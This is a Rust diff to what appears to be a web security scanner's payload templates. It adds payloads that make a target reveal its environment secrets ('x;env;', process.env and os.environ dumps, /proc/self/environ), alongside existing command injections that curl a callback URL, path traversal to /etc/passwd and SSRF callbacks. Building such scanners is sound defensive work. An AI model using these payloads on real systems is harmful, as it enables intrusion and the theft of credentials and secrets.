@@ -25,6 +25,8 @@ pub enum Proof {
     Accepted,
     /// The answer holds a stack trace or the text of an internal error.
     Trace,
+    /// The answer holds a secret of the function's environment.
+    Secret,
     /// The answer is another one than to two others that differ from it only in what a query would find (see
     /// [`Attack::twins`](crate::Attack)).
     Differs,
@@ -57,6 +59,7 @@ pub(crate) enum Shows {
     Reflected,
     Header,
     Trace,
+    Secret,
     /// A line that every `/etc/passwd` has.
     Passwd,
     Differs,
@@ -100,6 +103,7 @@ pub(crate) const ALL: &[Template] = &[
     text(Family::Command, "quote", "x';touch {file};curl -s {url};'", RUNS),
     text(Family::Command, "double-quote", "x\";touch {file};curl -s {url};\"", RUNS),
     text(Family::Command, "no-spaces", "x;{touch,{file}};curl${IFS}-s${IFS}{url};", RUNS),
+    text(Family::Command, "environment", "x;env;", &[Shows::Secret]),
     text(Family::Command, "sleep", "x;sleep 3;", &[Shows::Delay]),
     text(Family::Command, "option", "--output={file}", &[Shows::File]),
     // code of Node and Python, as statement and as expression
@@ -143,6 +147,8 @@ pub(crate) const ALL: &[Template] = &[
         "__import__('urllib.request').request.urlopen('{url}')",
         &[Shows::Callback],
     ),
+    text(Family::Code, "node-environment", "JSON.stringify(process.env)", &[Shows::Secret]),
+    text(Family::Code, "python-environment", "str(dict(__import__('os').environ))", &[Shows::Secret]),
     text(Family::Code, "product", "{a}*{b}", &[Shows::Product]),
     // objects that run code when they are built
     text(
@@ -204,7 +210,7 @@ pub(crate) const ALL: &[Template] = &[
     text(Family::Path, "up-encoded", "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", &[Shows::Passwd]),
     text(Family::Path, "absolute", "/etc/passwd", &[Shows::Passwd]),
     text(Family::Path, "file-url", "file:///etc/passwd", &[Shows::Passwd]),
-    text(Family::Path, "process", "/proc/self/environ", &[Shows::Trace]),
+    text(Family::Path, "process", "/proc/self/environ", &[Shows::Trace, Shows::Secret]),
     // hosts
     text(Family::Ssrf, "callback", "{url}", &[Shows::Callback]),
     text(Family::Ssrf, "callback-user", "http://example.org@{host}/{token}", &[Shows::Callback]),
